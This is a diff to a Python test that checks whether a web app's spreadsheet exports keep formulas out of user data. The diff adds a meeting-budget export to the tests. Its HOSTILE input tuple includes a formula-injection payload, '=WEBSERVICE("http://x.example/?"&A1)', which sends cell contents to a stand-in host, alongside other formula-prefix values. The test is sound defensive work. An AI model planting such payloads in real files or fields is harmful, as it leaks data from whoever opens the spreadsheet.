@@ -39,7 +39,7 @@ HOSTILE = (LINK, '=WEBSERVICE("http://x.example/?"&A1)', "@SUM(1)", "+1", "-1", 
 APP_FORMULA = re.compile(r"^SUM\([A-Z]+\d+:[A-Z]+\d+\)$")
 
 # every route that answers with a file, and the CLI commands, as the app declares them
-FILE_ROUTES = {"admin.audit_export", "evaluation.notice", "evaluation.comments", "meetings.pack",
+FILE_ROUTES = {"admin.audit_export", "evaluation.notice", "evaluation.comments", "meetings.pack", "meetings.budget",
                "reports.assessment_report", "reports.opinion_sheet", "feedback.hotwords_xlsx", "feedback.report",
                "evaluation.template", "screening.template"}  # uploads answer with files too: see WRITERS
 SPREADSHEET_CLI = {"screen", "meeting-pack", "survey import", "hotwords"}
@@ -47,7 +47,7 @@ OTHER_CLI = {"create-admin", "seed-demo", "rules check", "report", "backup", "re
              "template"}  # template: an import template, no user text (checked in test_templates_hold_no_formula…)
 # functions that call the safe writer; each one's output is produced below
 WRITERS = {"audit_export", "_import", "comments", "write_xlsx", "write_rejected", "results_xlsx", "summary_xlsx",
-           "hotwords_command", "analysis_xlsx", "comments_xlsx", "template_xlsx",
+           "hotwords_command", "analysis_xlsx", "comments_xlsx", "template_xlsx", "budget_xlsx",
            "run_import"}  # run_import: the survey job's rejected rows (evaluation.survey)
 
 
@@ -105,9 +105,13 @@ def assessment_exports(app, make, got: Collector, tmp_path) -> None:
     WebClient(app).post("/login", {"username": HOSTILE[1], "password": "x"})  # an anonymous attempt, audited
     world.to_reviewed(proposal)
     admin = world.client(world.admin)
-    admin.post("/meetings/", {"title": HOSTILE[2], "proposal_id": str(proposal.id), "order": "score"})
+    admin.post("/meetings/", {"kind": "executive", "title": HOSTILE[2], "proposal_id": str(proposal.id),
+                              "order": "score"})
     meeting = db.session.scalar(select(Meeting))
     got.add("meetings.pack.zip", admin.get(f"/meetings/{meeting.id}/pack.zip").data)
+    admin.post(f"/meetings/items/{meeting.items[0].id}/decide", {
+        "decision": "approved", "approved-2027": "9000", "approved-2028": "15000", "cut_reason": HOSTILE[3]})
+    got.add("meetings.budget", admin.get("/meetings/budget.xlsx").data)
     got.add("admin.audit_export", admin.get("/admin/audit.xlsx").data)
     out = tmp_path / "pack.zip"
     result = app.test_cli_runner().invoke(args=["meeting-pack", str(proposal.id), "-o", str(out), "--title", LINK])
@@ -180,7 +184,7 @@ def test_no_export_carries_a_formula_from_user_data(app, make, tmp_path):
     assessment_exports(app, make, got, tmp_path)
     evaluation_exports(app, make, got, tmp_path)
     screening_exports(app, make, got, tmp_path)
-    assert len(got.files) == 14, sorted(got.files)
+    assert len(got.files) == 15, sorted(got.files)
     for where, data in got.files.items():
         if data.startswith(b"PK"):
             assert formulas_of(data, where) == [], where
